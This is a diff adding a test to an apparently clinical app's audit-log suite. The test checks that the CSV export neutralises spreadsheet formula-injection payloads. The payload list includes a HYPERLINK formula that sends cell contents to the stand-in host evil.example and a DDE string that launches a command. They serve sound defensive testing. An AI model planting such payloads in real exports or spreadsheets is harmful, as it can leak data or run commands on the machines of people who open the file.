@@ -59,3 +59,17 @@ def test_non_admins_cannot_search(client, make_clinician, browser_login):
     browser_login(make_clinician())
     assert client.get("/admin/audit").status_code == 403
     assert client.get("/admin/audit/export.csv").status_code == 403
+
+
+def test_audit_export_neutralises_formulas(client, make_patient, make_staff, browser_login):
+    patient = make_patient()
+    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"]
+    for payload in payloads:
+        record("care_plan.read", actor=None, patient_id=patient.id, object_type="thing", object_id=payload)
+    db.session.commit()
+    browser_login(make_staff("admin"))
+    export = client.get(f"/admin/audit/export.csv?patient={patient.id}")
+    assert export.status_code == 200
+    cells = {r["object_id"] for r in csv.DictReader(io.StringIO(export.get_data(as_text=True)))}
+    assert {"'" + p for p in payloads} <= cells
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
